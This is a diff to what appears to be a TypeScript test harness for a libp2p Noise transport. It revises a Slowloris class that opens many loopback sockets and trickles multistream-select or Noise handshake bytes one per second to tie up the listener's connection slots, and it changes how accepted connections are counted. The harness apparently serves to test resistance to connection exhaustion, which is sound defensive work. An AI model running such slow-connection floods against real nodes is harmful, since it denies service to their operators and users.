@@ -8,8 +8,8 @@
  * the legitimate dialers on 127.0.0.1. Each socket negotiates `/noise` with
  * multistream-select and then sends Noise message 1 (a stock one, `e` alone:
  * 34 bytes framed) one byte a second, and reconnects when dropped. With stage
- * `negotiation` it trickles the multistream-select lines instead, so the
- * encrypter is never reached.
+ * `negotiation` it sends the multistream-select header and then trickles the
+ * `/noise` line, so the encrypter is never reached.
  *
  * The listener is built with libp2p's DEFAULT connection manager unless
  * settings are given: the defaults (10 pending inbound connections, 5 new
@@ -28,7 +28,7 @@ import { yamux } from '@libp2p/yamux'
 import { createLibp2p } from 'libp2p'
 import { pEvent } from 'p-event'
 import { ECH_PEER_STORE_KEY, echNoise } from '../../src/index.js'
-import { NOISE_NEGOTIATION, freshEphemeral, noiseFrame, tcpPort } from '../fixtures/wire.js'
+import { NOISE_NEGOTIATION, freshEphemeral, mssLine, noiseFrame, tcpPort } from '../fixtures/wire.js'
 import type { EchNoise } from '../../src/index.js'
 import type { Libp2p } from '@libp2p/interface'
 import type { Ping } from '@libp2p/ping'
@@ -89,13 +89,15 @@ export async function giveConfigs (dialer: Libp2p, listener: Listener): Promise<
 
 export type AttackStage = 'message1' | 'negotiation'
 
+const MSS_HEADER = mssLine('/multistream/1.0.0')
+
 export interface SlowlorisInit {
   port: number
   /** Sockets kept up at once */
   sockets: number
   /** Local addresses the sockets are bound to, in turn (default `127.0.0.2`) */
   sources?: string[]
-  /** What is trickled: Noise message 1 after negotiating `/noise` (default), or the negotiation itself */
+  /** What is trickled: Noise message 1 after negotiating `/noise` (default), or the `/noise` line after the multistream-select header */
   stage?: AttackStage
   /** Between trickled bytes (default 1000 ms) */
   byteIntervalMs?: number
@@ -108,8 +110,11 @@ export interface AttackSocket {
   source: string
   /** `performance.now()` when the TCP connection was up */
   openedAt: number
-  /** When the listener confirmed `/noise` (stage `message1`) */
-  negotiatedAt?: number
+  /**
+   * When the listener answered, so had accepted the connection: its `/noise`
+   * confirmation (stage `message1`) or its multistream-select header (stage `negotiation`)
+   */
+  acceptedAt?: number
   closedAt?: number
   /** Who closed it: the listener (an end or a reset), or the attacker (`close()`) */
   closedBy?: 'listener' | 'attacker'
@@ -119,14 +124,9 @@ export interface AttackSocket {
   finished: boolean
 }
 
-/** The listener accepted this connection: it negotiated, or (stage `negotiation`) lived past the first trickle interval */
-export function accepted (socket: AttackSocket, byteIntervalMs = 1000): boolean {
-  return socket.negotiatedAt != null || (socket.closedAt ?? performance.now()) - socket.openedAt >= byteIntervalMs / 2
-}
-
-/** The most attacker connections in `sockets` open at once */
+/** The most accepted attacker connections open at once, as the attacker saw them (from the listener's answer to the close) */
 export function peakConcurrent (sockets: AttackSocket[]): number {
-  const edges = sockets.flatMap(s => [[s.openedAt, 1], [s.closedAt ?? Infinity, -1]]).sort((a, b) => a[0] - b[0] || a[1] - b[1])
+  const edges = sockets.filter(s => s.acceptedAt != null).flatMap(s => [[s.acceptedAt ?? 0, 1], [s.closedAt ?? Infinity, -1]]).sort((a, b) => a[0] - b[0] || a[1] - b[1])
   let open = 0
   let peak = 0
   for (const [, step] of edges) {
@@ -189,19 +189,19 @@ export class Slowloris {
       socket.destroy()
     })
     socket.on('error', () => {})
+    // the opening is sent at once and answered by the listener in kind; then the rest is trickled
+    const [opening, rest] = this.init.stage === 'negotiation'
+      ? [MSS_HEADER, mssLine('/noise')]
+      : [NOISE_NEGOTIATION, noiseFrame(freshEphemeral())]
     socket.once('connect', () => {
       record.openedAt = performance.now()
       this.sockets.push(record)
-      if (this.init.stage === 'negotiation') {
-        trickling = this.trickle(socket, record, NOISE_NEGOTIATION)
-      } else {
-        socket.write(NOISE_NEGOTIATION)
-        void this.negotiated(socket).then((ok) => {
-          if (!ok || socket.destroyed) { return }
-          record.negotiatedAt = performance.now()
-          trickling = this.trickle(socket, record, noiseFrame(freshEphemeral()))
-        })
-      }
+      socket.write(opening)
+      void this.answered(socket, opening).then((ok) => {
+        if (!ok || socket.destroyed) { return }
+        record.acceptedAt = performance.now()
+        trickling = this.trickle(socket, record, rest)
+      })
     })
     socket.once('close', () => {
       clearInterval(trickling)
@@ -215,9 +215,9 @@ export class Slowloris {
     })
   }
 
-  /** Whether the listener answers the negotiation with the same two lines before closing */
-  private async negotiated (socket: Socket): Promise<boolean> {
-    const expected = Buffer.from(NOISE_NEGOTIATION)
+  /** Whether the listener answers with the same bytes before closing (multistream-select echoes what it agrees to) */
+  private async answered (socket: Socket, opening: Uint8Array): Promise<boolean> {
+    const expected = Buffer.from(opening)
     let received = Buffer.alloc(0)
     return new Promise(resolve => {
       const onData = (chunk: Buffer): void => {
